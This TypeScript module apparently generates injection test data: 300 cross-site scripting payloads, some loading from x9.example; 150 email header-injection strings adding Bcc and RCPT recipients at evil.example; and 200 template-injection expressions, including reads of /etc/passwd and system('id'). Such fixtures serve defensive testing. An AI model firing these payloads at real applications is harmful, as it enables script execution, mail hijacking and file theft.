/** In the markup of each script below: whatever is found with it in a page or a mail was taken for markup. */
export const MARK = 'data-x9';

/** Ways out of the place that a text stands in. */
const OUT = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '</option></select>', '`>', '&quot;>'];
/** What a browser would run, or show as something other than text. */
const IN = [
  `<script ${MARK}>x9()</script>`,
  `<ScRiPt ${MARK} src=//x9.example></sCrIpT>`,
  `<img ${MARK} src=x onerror=x9()>`,
  `<img ${MARK} src="x" onerror="&#120;9()">`,
  `<svg ${MARK} onload=x9()>`,
  `<svg><animate ${MARK} onbegin=x9() attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=x9()>`,
  `<details ${MARK} open ontoggle=x9()>`,
  `<iframe ${MARK} srcdoc="<script>parent.x9()</script>"></iframe>`,
  `<object ${MARK} data="data:text/html,<script>x9()</script>"></object>`,
  `<embed ${MARK} src="javascript:x9()">`,
  `<a ${MARK} href="javascript:x9()">go</a>`,
  `<a ${MARK} href="java&#9;script:x9()">go</a>`,
  `<form ${MARK} action="javascript:x9()"><button>go</button></form>`,
  `<input ${MARK} autofocus onfocus=x9()>`,
  `<video ${MARK}><source onerror=x9()></video>`,
  `<body ${MARK} onload=x9()>`,
  `<base ${MARK} href="//x9.example/">`,
  `<link ${MARK} rel=stylesheet href="//x9.example/x.css">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=javascript:x9()">`,
  `<style ${MARK}>*{display:none}</style>`,
  `<template ${MARK}><img src=x onerror=x9()></template>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=x9()>">`,
  `<x9 ${MARK} onmouseover=x9() style="position:fixed;inset:0">`,
  `\u202E<b ${MARK}>gpj.exe</b>`,
];

/** 300 texts that would run or draw something, were they taken for markup. */
export const SCRIPTS: readonly string[] = OUT.flatMap((out) => IN.map((inside) => `${out}${inside}`));

const BREAKS = [
  '\r\n',
  '\n',
  '\r',
  '\n\n',
  '\r\n ',
  '\r\n\t',
  '\u2028',
  '\u2029',
  '\u0085',
  '\v',
  '\f',
  '\0\n',
  '%0d%0a',
  '=?utf-8?Q?=0D=0A?=',
  '\uFF0A\n',
];
const HEADS = [
  'Bcc: x9@evil.example',
  'To: x9@evil.example',
  'Cc: x9@evil.example',
  'Subject: x9',
  'From: x9@evil.example',
  'Reply-To: x9@evil.example',
  'Content-Type: text/html',
  'List-Unsubscribe: <https://evil.example>',
  '.\r\nRCPT TO:<x9@evil.example>',
  '\r\n<script>x9()</script>',
];

/** 150 texts that would begin a line of a mail's head, or its body. */
export const HEAD_LINES: readonly string[] = BREAKS.flatMap((between) => HEADS.map((line) => `Ann${between}${line}`));

const FENCES: readonly (readonly [string, string])[] = [
  ['{{', '}}'],
  ['{{{', '}}}'],
  ['${', '}'],
  ['<%=', '%>'],
  ['#{', '}'],
  ['{%', '%}'],
  ['[[', ']]'],
  ['{{=', '=}}'],
  ['{!', '!}'],
  ['@(', ')'],
];
const EXPRESSIONS = [
  '7191*7193',
  'contact.email',
  'contact.constructor',
  'contact.__proto__',
  'constructor.constructor("return process")()',
  'this.constructor.constructor("x9()")()',
  'process.env.HOME',
  'globalThis.process',
  'require("fs").readFileSync("/etc/passwd")',
  'include "/etc/passwd"',
  'import os',
  'self.__class__.__mro__',
  'workspace.secret',
  'workspace.postal_address | upcase',
  '#each this',
  '>partial',
  'lookup . "constructor"',
  'range.constructor("return 7191*7193")()',
  'contact.first_name | default: contact.email',
  'system("id")',
];

/** 200 texts that a template engine would evaluate. */
export const TEMPLATES: readonly string[] = FENCES.flatMap(([open, close]) => EXPRESSIONS.map((what) => `${open} ${what} ${close}`));
/** What the one sum among them would come to. */
export const EVALUATED = String(7191 * 7193);
